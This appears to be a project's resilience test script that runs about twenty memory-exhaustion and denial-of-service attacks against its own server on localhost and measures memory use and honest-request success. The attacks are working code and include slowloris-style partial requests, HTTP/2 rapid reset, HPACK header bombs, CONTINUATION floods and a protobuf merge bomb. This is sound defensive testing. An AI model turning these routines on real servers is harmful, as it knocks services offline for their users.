#!/usr/bin/env python3
"""Attacks on the memory of a `causality run` in its default configuration.

Starts the binary for each attack, sends honest requests meanwhile, and prints a table:

    tests/attacks/attacks.py BINARY [ATTACK...]

No package is needed; those whose names begin with `tls_` make their certificate with `openssl`. The clients that attack and those that are honest share one machine with the server, so the
times are those of a loaded machine; the peak of memory and the answers are what counts. Exits with 1 when a peak
passes 300 MB, when connections that only wait hold more than 200 MB at the end, or when an attack keeps every honest request out.
"""

import asyncio
import json
import os
import resource
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time
import urllib.request

SECONDS = float(os.environ.get("ATTACK_SECONDS", "15"))
RSS_MAX_MB = 300
RSS_MAX_IDLE_MB = 200
EVENT = json.dumps(
    {"event": {"appId": "shop", "deviceId": "d1", "screenView": {"screenName": "home"}}}
).encode()
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


# Trusts whatever certificate is shown.
ANYONE = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ANYONE.check_hostname, ANYONE.verify_mode = False, ssl.CERT_NONE


class Server:
    def __init__(self, binary, tls):
        self.dir = tempfile.TemporaryDirectory()
        self.port, self.admin = free_port(), free_port()
        encrypted = {}
        if tls:
            make = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=localhost"
            files = ["-keyout", "tls.key", "-out", "tls.pem"]
            subprocess.run(make.split() + files, cwd=self.dir.name, check=True, stderr=subprocess.DEVNULL)
            encrypted = {"TLS_CERT_FILE": f"{self.dir.name}/tls.pem", "TLS_KEY_FILE": f"{self.dir.name}/tls.key"}
        self.process = subprocess.Popen(
            [binary, "run"],
            env={
                "PATH": os.environ["PATH"],
                "DATA_DIR": f"{self.dir.name}/data",
                "HTTP_ADDR": f"127.0.0.1:{self.port}",
                "ADMIN_ADDR": f"127.0.0.1:{self.admin}",
            }
            | encrypted,
            stdout=subprocess.DEVNULL,
            stderr=open(os.environ.get("ATTACK_LOG", "/dev/null"), "a"),
        )
        for _ in range(600):
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{self.admin}/ready", timeout=1)
                return
            except OSError:
                time.sleep(0.1)
        raise SystemExit("the server did not become ready")

    def status(self, name):
        try:
            with open(f"/proc/{self.process.pid}/status") as status:
                for line in status:
                    if line.startswith(name):
                        return int(line.split()[1]) / 1024
        except OSError:
            pass
        return 0.0

    def close(self):
        self.process.kill()
        self.process.wait()
        self.dir.cleanup()


# --- attackers: each coroutine is one connection, and comes again when it is thrown out ---


async def connect(port, receive_buffer=None):
    tcp = socket.socket()
    if receive_buffer:
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    tcp.setblocking(False)
    await asyncio.get_running_loop().sock_connect(tcp, ("127.0.0.1", port))
    return tcp


async def send(tcp, data):
    await asyncio.get_running_loop().sock_sendall(tcp, data)


async def until_closed(tcp):
    try:
        while await asyncio.get_running_loop().sock_recv(tcp, 65536):
            pass
    except OSError:
        pass


def post(length, path="/v1/events/ingest", extra=""):
    return f"POST {path} HTTP/1.1\r\nhost: localhost\r\ncontent-length: {length}\r\n{extra}\r\n".encode()


async def promise(server):
    """Heads that announce a body, and nothing more."""
    tcp = await connect(server.port)
    await send(tcp, post(65536))
    await until_closed(tcp)


async def nearly(server):
    """Bodies of 64 KiB without their last byte."""
    tcp = await connect(server.port)
    await send(tcp, post(65536) + b"x" * 65535)
    await until_closed(tcp)


async def large(server):
    """Bodies of 5 MiB without their last byte."""
    tcp = await connect(server.port)
    await send(tcp, post(5 << 20) + b"x" * ((5 << 20) - 1))
    await until_closed(tcp)


async def drip(server):
    """Bodies of 64 KiB whose second half comes byte by byte."""
    tcp = await connect(server.port)
    await send(tcp, post(65536) + b"x" * 32768)
    for _ in range(32767):
        await send(tcp, b"x")
        await asyncio.sleep(0.2)


async def heads(server):
    """Heads of 60 KB without their end."""
    tcp = await connect(server.port)
    await send(tcp, b"GET /health HTTP/1.1\r\nhost: localhost\r\nx: " + b"x" * 60000)
    await until_closed(tcp)


async def idle(server):
    """Connections that sent one request with a large body, and stay."""
    tcp = await connect(server.port)
    await send(tcp, post(200000) + b"x" * 200000)
    await asyncio.sleep(3600)


async def silent(server):
    """Connections that say nothing."""
    tcp = await connect(server.port)
    await until_closed(tcp)


UNREAD = (
    b'{"events":['
    + b",".join([b"{" + b",".join(b'"%s%d":1' % (b"n" * 120, n) for n in range(30)) + b"}"] * 1000)
    + b"]}"
)


async def unread(server):
    """Batches of 1,000 events with thirty errors each, whose replies nobody reads, over and over."""
    tcp = await connect(server.port, receive_buffer=4096)
    for _ in range(1000):
        await send(tcp, post(len(UNREAD), "/v1/events/batch") + UNREAD)
    await asyncio.sleep(3600)


EMPTY = b'{"events":[' + b",".join([b"{}"] * 1000) + b"]}"


async def empties(server):
    """Batches of 1,000 empty events, 3 KB each, whose replies nobody reads."""
    tcp = await connect(server.port, receive_buffer=4096)
    await send(tcp, (post(len(EMPTY), "/v1/events/batch") + EMPTY) * 200)
    await asyncio.sleep(3600)


async def metrics(server):
    """The metrics of the admin port, asked for on 128 streams of each connection, and not read."""
    tcp = await connect(server.admin, receive_buffer=4096)
    await send(tcp, PREFACE + frame(4, 0, 0, b"\x00\x04\x00\x00\x00\x00"))
    for stream in range(1, 257, 2):
        await send(tcp, request(stream, b"GET", b"/metrics", end=True))
    await asyncio.sleep(3600)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return bytes([name, len(value)]) + value


def request(stream, method, path, end=False, extra=b""):
    block = b"\x86" + literal(2, method) + literal(4, path) + literal(1, b"localhost") + extra
    return frame(1, 5 if end else 4, stream, block)


async def streams(server):
    """128 open streams a connection, each with an unfinished body of one byte."""
    tcp = await connect(server.port)
    data = PREFACE + frame(4, 0, 0)
    for stream in range(1, 257, 2):
        data += request(stream, b"POST", b"/v1/events/ingest") + frame(0, 0, stream, b"x")
    await send(tcp, data)
    await until_closed(tcp)


async def header_bomb(server):
    """128 streams a connection, each with a head of 15 KB made of references of one byte."""
    tcp = await connect(server.port)
    await send(tcp, PREFACE + frame(4, 0, 0))
    value = b"x" * 3000
    first = b"\x40\x03big" + b"\x7f" + bytes([0x80 | ((len(value) - 127) & 127), (len(value) - 127) >> 7]) + value
    await send(tcp, request(1, b"POST", b"/v1/events/ingest", extra=first))
    data = b"".join(
        request(stream, b"POST", b"/v1/events/ingest", extra=b"\xbe" * 4) for stream in range(3, 257, 2)
    )
    await send(tcp, data)
    await until_closed(tcp)


async def many_headers(server):
    """A header block in the making on each connection, of 450 fields of one byte each."""
    tcp = await connect(server.port)
    await send(tcp, PREFACE + frame(4, 0, 0) + frame(1, 0, 1, b"\x86\x84\x83" + b"\x90" * 450))
    await until_closed(tcp)


async def no_window(server):
    """Replies that have no window, on 128 streams a connection, with pings that keep it busy."""
    tcp = await connect(server.port)
    data = PREFACE + frame(4, 0, 0, b"\x00\x04\x00\x00\x00\x00")
    for stream in range(1, 257, 2):
        data += request(stream, b"GET", b"/ready", end=True)
    await send(tcp, data)
    reading = asyncio.ensure_future(until_closed(tcp))
    while not reading.done():
        await send(tcp, frame(6, 0, 0, bytes(8)))
        await asyncio.sleep(0.5)


async def rapid_reset(server):
    """Streams that are opened and reset at once."""
    tcp = await connect(server.port)
    await send(tcp, PREFACE + frame(4, 0, 0))
    for stream in range(1, 1 << 20, 2):
        await send(tcp, request(stream, b"POST", b"/v1/events/ingest") + frame(3, 0, stream, b"\0\0\0\x08"))


async def control(server):
    """Settings, pings, priorities, window updates and empty data as fast as they go, answers unread."""
    tcp = await connect(server.port, receive_buffer=4096)
    await send(tcp, PREFACE + frame(4, 0, 0) + request(1, b"POST", b"/v1/events/ingest"))
    some = frame(4, 0, 0) + frame(6, 0, 0, bytes(8)) + frame(2, 0, 3, bytes(5)) + frame(0, 0, 1)
    for _ in range(100000):
        await send(tcp, some * 100)


async def continuation(server):
    """Continuations without end."""
    tcp = await connect(server.port)
    await send(tcp, PREFACE + frame(4, 0, 0) + frame(1, 0, 1, b"\x86\x84\x83"))
    for _ in range(100000):
        await send(tcp, frame(9, 0, 1, b"\x90") * 10)


async def pipeline(server):
    """Requests ahead of their replies, which nobody reads."""
    tcp = await connect(server.port, receive_buffer=4096)
    for _ in range(10000):
        await send(tcp, b"GET /ready HTTP/1.1\r\nhost: localhost\r\n\r\n" * 100)


def field(key, payload):
    """A length-delimited field of a protobuf message."""
    length, varint = len(payload), bytearray()
    while length >= 0x80:
        varint.append(length & 0x7F | 0x80)
        length >>= 7
    varint.append(length)
    return key + bytes(varint) + payload


# Custom events of nearly 5 MiB. The value of their one property comes twice, which decoders merge.
MERGED = field(
    b"\x0a",
    b"\x12\x04shop\x1a\x02d1"
    + field(
        b"\xa2\x38",
        b"\x0a\x01e"
        + field(
            b"\x32",
            field(b"\x0a", b"\x0a\x01k" + field(b"\x12", field(b"\x32", b"\x0a\x00" * 2_600_000)) + b"\x12\x02\x32\x00"),
        ),
    ),
)


async def merged(server):
    """Binary events whose property has 2.6 million empty values, and then a second, empty list."""
    tcp = await connect(server.port)
    while True:
        await send(tcp, post(len(MERGED), extra="content-type: application/x-protobuf\r\n") + MERGED)
        if b" 400 " not in await asyncio.get_running_loop().sock_recv(tcp, 65536):
            return


# The beginning of a ClientHello of 16 KiB.
HELLO = b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" + bytes(32)


async def tls_hello(server):
    """TLS handshakes that never come to the end of their first record."""
    tcp = await connect(server.port)
    await send(tcp, HELLO + bytes(16000))
    await until_closed(tcp)


async def tls_connection(server):
    return await asyncio.open_connection("127.0.0.1", server.port, ssl=ANYONE, limit=4096)


async def tls_idle(server):
    """TLS connections that sent one request, and stay."""
    reader, writer = await tls_connection(server)
    writer.write(post(20000) + b"x" * 20000)
    while await reader.read(4096):
        pass


async def tls_record(server):
    """A record of 16 KiB without its last byte, after the handshake."""
    reader, writer = await tls_connection(server)
    tcp = writer.get_extra_info("socket")
    # Below the library: what it would not send.
    os.write(tcp.fileno(), b"\x17\x03\x03\x40\x00" + bytes(16383))
    while await reader.read(4096):
        pass


async def none(server):
    """Honest requests alone."""
    await asyncio.sleep(3600)


ATTACKS = {
    none: 1,
    promise: 1100,
    nearly: 3000,
    large: 200,
    drip: 3000,
    heads: 3000,
    silent: 10000,
    idle: 9000,
    unread: 40,
    empties: 300,
    metrics: 200,
    streams: 600,
    header_bomb: 600,
    many_headers: 3000,
    no_window: 600,
    rapid_reset: 50,
    control: 50,
    continuation: 200,
    pipeline: 300,
    merged: 20,
    tls_hello: 3000,
    tls_idle: 4000,
    tls_record: 1500,
}


async def again(attack, server, delay):
    await asyncio.sleep(delay)
    while True:
        try:
            await attack(server)
        except (OSError, asyncio.IncompleteReadError):
            pass
        await asyncio.sleep(0.5)


# --- honest clients: a process of their own, so that they do not wait for the attackers ---


async def honest_client(port, path, until, answers, context):
    while time.monotonic() < until:
        start = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port, ssl=context), 5)
            if path == "/health":
                writer.write(b"GET /health HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n")
            else:
                writer.write(post(len(EVENT), path, "connection: close\r\n") + EVENT)
            line = await asyncio.wait_for(reader.readline(), 5)
            status = int(line.split()[1]) if line else 0
            writer.close()
        except (OSError, asyncio.TimeoutError):
            status = 0
        answers.append((path, status, time.monotonic() - start))
        await asyncio.sleep(0.05)


async def honest(port, admin, seconds, tls):
    answers, until = [], time.monotonic() + seconds
    context = ANYONE if tls else None
    clients = [honest_client(port, "/v1/events/ingest", until, answers, context) for _ in range(8)]
    clients += [honest_client(port, "/health", until, answers, context)]
    clients += [honest_client(admin, "/health", until, answers, None)]
    await asyncio.gather(*clients)
    print(json.dumps(answers))


async def measure(binary, attack):
    tls = attack.__name__.startswith("tls_")
    server = Server(binary, tls)
    try:
        delays = [min(1, SECONDS / 10) * n / ATTACKS[attack] for n in range(ATTACKS[attack])]
        attackers = [asyncio.ensure_future(again(attack, server, delay)) for delay in delays]
        await asyncio.sleep(2)
        process = await asyncio.create_subprocess_exec(
            sys.executable, __file__, "--honest", str(server.port), str(server.admin), str(SECONDS), str(int(tls)),
            stdout=asyncio.subprocess.PIPE,
        )
        output, _ = await process.communicate()
        answers = json.loads(output)
        for attacker in attackers:
            attacker.cancel()
        alive = server.process.poll() is None
        peak, end = (server.status("VmHWM:"), server.status("VmRSS:")) if alive else (0.0, 0.0)
        return answers, peak, end, alive
    finally:
        server.close()


def row(attack, answers, peak, end, alive):
    ingest = [answer for answer in answers if answer[0] != "/health"]
    health = [answer for answer in answers if answer[0] == "/health"]
    ok = sorted(seconds for _, status, seconds in ingest if status == 200)
    refused = sum(status == 503 for _, status, _ in ingest)
    failed = len(ingest) - len(ok) - refused
    healthy = sum(status == 200 for _, status, _ in health)
    p99 = ok[int(len(ok) * 0.99)] if ok else float("nan")
    print(
        f"{attack.__name__:<14} {ATTACKS[attack]:>6} {peak:>8.0f} {end:>8.0f} {len(ok):>8} {refused:>6} {failed:>6} "
        f"{p99 * 1e3:>8.0f} {healthy:>6}/{len(health):<6}{'' if alive else ' THE SERVER DIED'}",
        flush=True,
    )
    small = end < RSS_MAX_IDLE_MB or attack not in (silent, idle, tls_idle)
    return alive and peak < RSS_MAX_MB and small and ok and healthy


def main():
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    if sys.argv[1] == "--honest":
        asyncio.run(honest(int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5] == "1"))
        return
    chosen = [attack for attack in ATTACKS if not sys.argv[2:] or attack.__name__ in sys.argv[2:]]
    print(f"{'attack':<14} {'conns':>6} {'peak MB':>8} {'end MB':>8} {'answered':>8} {'503':>6} {'failed':>6} {'p99 ms':>8} {'health':>13}")
    passed = [row(attack, *asyncio.run(measure(sys.argv[1], attack))) for attack in chosen]
    raise SystemExit(0 if all(passed) else 1)


main()
